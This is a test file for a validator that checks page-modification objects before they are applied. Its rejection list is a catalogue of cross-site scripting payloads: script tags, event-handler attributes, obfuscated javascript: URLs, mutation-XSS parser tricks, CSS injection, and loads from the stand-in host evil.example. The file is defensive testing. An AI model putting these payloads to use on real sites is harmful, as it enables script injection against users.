import { changeFaults } from './change-faults.js';
import { actions, type Change } from './change.js';
import { changeLimits as limits } from './change-limits.js';

const selector = '#buy';

/** One of each kind, and what people write. */
const sound: Change[] = [
  { action: 'text', selector, value: 'Order now' },
  { action: 'text', selector, value: '' },
  { action: 'html', selector, value: 'Order <b>now</b>, 5 < 6 &amp; more' },
  {
    action: 'html',
    selector,
    value: '<img src="/a.png" alt="javascript: the good parts" srcset="/a.png 1x, /b.png 2x">',
  },
  {
    action: 'html',
    selector,
    value: '<img src="data:image/svg+xml,<svg/>"><a href="mailto:a@b.example">x</a>',
  },
  {
    action: 'html',
    selector,
    value: '<p style="color: red; background: url(/a.png)">x</p><style>p { color: red }</style>',
  },
  { action: 'html', selector, value: '<iframe src="https://video.example/1" allow="autoplay"></iframe>' },
  { action: 'html', selector, value: '<svg viewBox="0 0 1 1"><path d="M0 0"/><use href="#a"/></svg>' },
  { action: 'html', selector, value: '<form action="/search"><input name="q"><button>Go</button></form>' },
  { action: 'html', selector, value: '<template><p>x</p></template><once-only>x</once-only>' },
  { action: 'attribute', selector, name: 'href', value: '/order?next=javascript:1#a' },
  { action: 'attribute', selector, name: 'src', value: 'data:image/png;base64,iVBORw0KGgo=' },
  { action: 'attribute', selector, name: 'alt', value: 'data: what we keep' },
  { action: 'attribute', selector, name: 'disabled', value: '' },
  { action: 'attribute', selector, name: 'aria-label', value: null },
  { action: 'attribute', selector, name: 'xlink:href', value: '#a' },
  { action: 'style', selector, property: 'background-color', value: 'rgb(0 128 0 / 50%)' },
  { action: 'style', selector, property: '--brand', value: '#0a0', important: true },
  { action: 'style', selector, property: 'background', value: 'url("/a;b.png") no-repeat', important: false },
  { action: 'class', selector, add: ['is-new', 'md:w-1/2'], remove: ['old'] },
  { action: 'class', selector, remove: ['old'] },
  { action: 'hide', selector: 'shop-card >>> .price, shop-card >>> [title="a >>> b"]' },
  { action: 'hide', selector: 'main:has(> .cta):not(.a, .b)' },
  { action: 'remove', selector },
  { action: 'move', selector, target: '#top', position: 'before' },
  { action: 'insert', target: selector, position: 'last', value: ' <p>New</p>\n' },
  { action: 'insert', target: 'tbody', position: 'first', value: '<tr><td>New</td></tr>' },
  { action: 'css', value: '#buy { color: red } @media (width < 400px) { #buy { display: none } }' },
];

describe('changeFaults', () => {
  it.each(sound.map((change) => [JSON.stringify(change), change] as const))('takes %s', (_, change) => {
    expect(changeFaults([change])).toEqual([]);
  });

  it('knows a sound change of every action', () => {
    expect(new Set(sound.map(({ action }) => action))).toEqual(new Set(actions));
  });

  const html = (value: string) => ({ action: 'html', selector, value });
  const attribute = (name: string, value: unknown) => ({ action: 'attribute', selector, name, value });
  const style = (property: string, value: string) => ({ action: 'style', selector, property, value });
  const css = (value: string) => ({ action: 'css', value });
  const unsound: [string, unknown][] = [
    // Shape
    ['action', { selector }],
    ['action', { action: 'script', value: 'alert(1)' }],
    ['action', { action: 'toString', selector }],
    ['selector', { action: 'hide' }],
    ['selector', { action: 'hide', selector: null }],
    ['selector', { action: 'hide', selector: 7 }],
    ['selector', { action: 'hide', selector: ['#a'] }],
    ['selector', { action: 'hide', selector: ' ' }],
    ['selector', { action: 'hide', selector: '#a >' }],
    ['selector', { action: 'hide', selector: '#a[' }],
    ['selector', { action: 'hide', selector: 'a >>> ' }],
    ['selector', { action: 'hide', selector: '>>> a' }],
    ['selector', { action: 'hide', selector: 'a >>>> b' }],
    ['selector', { action: 'hide', selector: 'a \0' }],
    ['selector', { action: 'hide', selector: `#${'a'.repeat(limits.selector)}` }],
    ['target', { action: 'move', selector, position: 'last' }],
    ['target', { action: 'move', selector, target: '#a,', position: 'last' }],
    ['position', { action: 'move', selector, target: '#a' }],
    ['position', { action: 'move', selector, target: '#a', position: 'inside' }],
    ['selector', { action: 'insert', selector, target: '#a', position: 'last', value: '<p>x</p>' }],
    ['value', { action: 'hide', selector, value: 'x' }],
    ['__proto__', JSON.parse('{"action":"hide","selector":"a","__proto__":{}}')],
    ['value', { action: 'text', selector }],
    ['value', { action: 'text', selector, value: null }],
    ['value', { action: 'text', selector, value: 5 }],
    ['value', { action: 'text', selector, value: 'a\0b' }],
    ['value', { action: 'text', selector, value: 'a\ud800' }],
    ['value', { action: 'text', selector, value: 'a'.repeat(limits.text + 1) }],
    ['add', { action: 'class', selector }],
    ['add', { action: 'class', selector, add: [], remove: [] }],
    ['add', { action: 'class', selector, add: ['a b'] }],
    ['add', { action: 'class', selector, add: [''] }],
    ['add', { action: 'class', selector, add: [null] }],
    ['add', { action: 'class', selector, add: 'a' }],
    ['add', { action: 'class', selector, add: Array(limits.classes + 1).fill('a') }],
    ['remove', { action: 'class', selector, add: ['a'], remove: ['a'] }],
    ['important', { ...style('color', 'red'), important: 'yes' }],
    ['value', { action: 'insert', target: '#a', position: 'last', value: '<p>x</p><p>y</p>' }],
    ['value', { action: 'insert', target: '#a', position: 'last', value: 'only text' }],
    ['value', { action: 'insert', target: '#a', position: 'last', value: '<p>x</p> y' }],
    ['value', { action: 'insert', target: '#a', position: 'last', value: '<!-- x -->' }],
    // Scripts in HTML
    ['value', html('<script>alert(1)</script>')],
    ['value', html('<SCRIPT src=//evil.example></SCRIPT>')],
    ['value', html('<svg><script>alert(1)</script></svg>')],
    ['value', html('<p>x<scr\0ipt>alert(1)</script>')],
    ['value', html('<template><script>alert(1)</script></template>')],
    ['value', html('<math><mtext><script>alert(1)</script></mtext></math>')],
    ['value', html('<img src=x onerror=alert(1)>')],
    ['value', html('<img src=x OnErRoR=alert(1)>')],
    ['value', html('<img/src/onerror=alert(1)>')],
    ['value', html('<img src=x\nonerror\n=\nalert(1)>')],
    ['value', html('<svg onload=alert(1)>')],
    ['value', html('<svg><g onclick=alert(1)></g></svg>')],
    ['value', html('<body onload=alert(1)>')],
    ['value', html('<details ontoggle=alert(1) open>')],
    ['value', html('<div onpointerrawupdate=alert(1)>')],
    ['value', html('<a href="javascript:alert(1)">x</a>')],
    ['value', html('<a href=" \n JaVaScRiPt:alert(1)">x</a>')],
    ['value', html('<a href="java\tscr\nipt:alert(1)">x</a>')],
    ['value', html('<a href="&#106;avascript:alert(1)">x</a>')],
    ['value', html('<a href="&#x6A&#x61;vascript&colon;alert(1)">x</a>')],
    ['value', html('<a href="java&Tab;script&NewLine;:alert(1)">x</a>')],
    ['value', html('<a href="&#1;javascript:alert(1)">x</a>')],
    ['value', html('<a href="vbscript:msgbox(1)">x</a>')],
    ['value', html('<a href="data:text/html,<script>alert(1)</script>">x</a>')],
    ['value', html('<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>')],
    ['value', html('<svg><use href="data:image/svg+xml;base64,PHN2Zz4="></use></svg>')],
    ['value', html('<svg><animate attributeName="href" values="/a;javascript:alert(1)"/></svg>')],
    ['value', html('<svg><set attributeName="href" to="javascript:alert(1)"/></svg>')],
    ['value', html('<math href="javascript:alert(1)">x</math>')],
    ['value', html('<form action="javascript:alert(1)"><button>x</button></form>')],
    ['value', html('<button formaction="javascript:alert(1)">x</button>')],
    ['value', html('<input type=image formaction="&#x0A;javascript:alert(1)">')],
    ['value', html('<iframe src="javascript:alert(1)"></iframe>')],
    ['value', html('<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>')],
    ['value', html('<iframe src="data:text/html,x"></iframe>')],
    ['value', html('<iframe src="data:image/svg+xml,x"></iframe>')],
    ['value', html('<object data="javascript:alert(1)"></object>')],
    ['value', html('<embed src="//evil.example/x.swf">')],
    ['value', html('<base href="//evil.example/">')],
    ['value', html('<meta http-equiv="refresh" content="0;url=javascript:alert(1)">')],
    ['value', html('<meta http-equiv="refresh" content="0;url=//evil.example">')],
    ['value', html('<link rel="stylesheet" href="//evil.example/x.css">')],
    ['value', html('<link rel="import" href="//evil.example/x.html">')],
    ['value', html('<img srcset="/a.png 1x, javascript:alert(1) 2x">')],
    ['value', html('<style>@import "//evil.example/x.css";</style>')],
    ['value', html('<style>@\\69mport url(//evil.example/x.css);</style>')],
    ['value', html('<style>p { background: url(javascript:alert(1)) }</style>')],
    ['value', html('<style>p { color: </style>')],
    ['value', html('<p style="background: url(javascript:alert(1))">x</p>')],
    ['value', html('<p style="width: expression(alert(1))">x</p>')],
    ['value', html('<p style="} * { display: none">x</p>')],
    // What is text in one place and HTML in another
    ['value', html('<style><img src=x onerror=alert(1)></style>')],
    ['value', html('<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>')],
    ['value', html('<xmp><img src=x></xmp>')],
    ['value', html('<plaintext>')],
    ['value', html('<svg><style><!--</style>--><img src=x onerror=alert(1)>')],
    ['value', html('<frameset onload=alert(1)><frame src="/a"></frameset>')],
    ['value', html('<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>')],
    ['value', html('</p><img src=x onerror=alert(1)>')],
    ['value', html('<!--><img src=x onerror=alert(1)>-->')],
    ['value', html('<![CDATA[><img src=x onerror=alert(1)>]]>')],
    ['value', html('<div>'.repeat(limits.depth + 1))],
    ['value', html('a'.repeat(limits.html + 1))],
    ['value', { action: 'insert', target: '#a', position: 'last', value: '<p onclick="x()">x</p>' }],
    // Attributes
    ['name', attribute('onclick', 'x()')],
    ['name', attribute('ONCLICK', 'x()')],
    ['name', attribute('onwhatever', null)],
    ['name', attribute('srcdoc', '<p>x</p>')],
    ['name', attribute('style', 'color: red')],
    ['name', attribute('a b', 'x')],
    ['name', attribute('a=b', 'x')],
    ['name', attribute(' onclick', 'x')],
    ['name', attribute('xml:onclick', 'x')],
    ['name', attribute('', 'x')],
    ['name', attribute('a'.repeat(limits.name + 1), 'x')],
    ['name', { action: 'attribute', selector, value: 'x' }],
    ['value', { action: 'attribute', selector, name: 'title' }],
    ['value', attribute('title', true)],
    ['value', attribute('href', 'javascript:alert(1)')],
    ['value', attribute('HREF', ' javascript:alert(1)')],
    ['value', attribute('href', 'java\nscript:alert(1)')],
    ['value', attribute('href', '\u0001javascript:alert(1)')],
    ['value', attribute('href', 'java\u200bscript:alert(1)')],
    ['value', attribute('href', '&#106;avascript:alert(1)')],
    ['value', attribute('action', 'JAVASCRIPT:alert(1)')],
    ['value', attribute('formaction', 'javascript:alert(1)')],
    ['value', attribute('xlink:href', 'javascript:alert(1)')],
    ['value', attribute('src', 'data:text/html,<script>alert(1)</script>')],
    ['value', attribute('src', 'data:image/svg+xml,<svg onload=alert(1)>')],
    ['value', attribute('data', 'data:application/pdf,x')],
    ['value', attribute('srcset', '/a.png 1x, javascript:alert(1) 2x')],
    ['value', attribute('content', '0; URL = "javascript:alert(1)"')],
    ['value', attribute('values', '/a;javascript:alert(1)')],
    ['value', attribute('title', 'a'.repeat(limits.attribute + 1))],
    // Css
    ['property', style('backgroundColor', 'red')],
    ['property', style('color: red; background', 'red')],
    ['property', style('', 'red')],
    ['value', style('color', '')],
    ['value', style('color', 'red; background: blue')],
    ['value', style('color', 'red;')],
    ['value', style('color', 'red } * { color: blue')],
    ['value', style('color', 'red !important')],
    ['value', style('background', 'url(javascript:alert(1))')],
    ['value', style('background', 'url("\\6a avascript:alert(1)")')],
    ['value', style('color', 'a'.repeat(limits.style + 1))],
    ['value', css('')],
    ['value', css('#buy { color: red')],
    ['value', css('@import url("/more.css"); #buy { color: red }')],
    ['value', css('@IMPORT "/more.css";')],
    ['value', css('p { background: url( "javascript:alert(1)" ) }')],
  ];

  it.each(unsound.map(([field, change]) => [JSON.stringify(change).slice(0, 120), field, change] as const))(
    'refuses %s for its %s',
    (_, field, change) => {
      const faults = changeFaults([{ action: 'hide', selector }, change]);

      expect(faults.map(({ index, field }) => ({ index, field }))).toEqual([{ index: 1, field }]);
      expect(faults[0]!.message).toMatch(/^(?:must|needs|is) /);
    },
  );

  it.each([null, 'hide', 5, true, [], undefined])('refuses the change %j', (change) => {
    expect(changeFaults([change])).toEqual([{ index: 0, message: 'must be an object with an action' }]);
  });

  it.each([null, undefined, {}, 'hide', { length: 1, 0: sound[0] }])('refuses %j for changes', (changes) => {
    expect(changeFaults(changes)).toEqual([{ message: 'must be a list of changes' }]);
  });

  it('tells everything that is wrong, by index and field', () => {
    const faults = changeFaults([
      { action: 'move', selector: '#a[', position: 'up' },
      { action: 'hide', selector },
      { action: 'text', selector, value: 1, color: 'red' },
    ]);

    expect(faults.map(({ index, field }) => `${index} ${field}`).sort()).toEqual(
      ['0 selector', '0 target', '0 position', '2 color', '2 value'].sort(),
    );
  });

  it('bounds how many there are and how much they are together', () => {
    const one = { action: 'hide', selector };
    const text = { action: 'text', selector, value: 'é'.repeat(limits.text) };

    expect(changeFaults(Array(limits.changes).fill(one))).toEqual([]);
    expect(changeFaults(Array(limits.changes + 1).fill(one))).toEqual([{ message: 'must be at most 200' }]);
    expect(changeFaults(Array(14).fill(text))[0]).toMatchObject({
      message: expect.stringMatching(/256 KiB/),
    });
    expect(changeFaults([])).toEqual([]);
  });
});
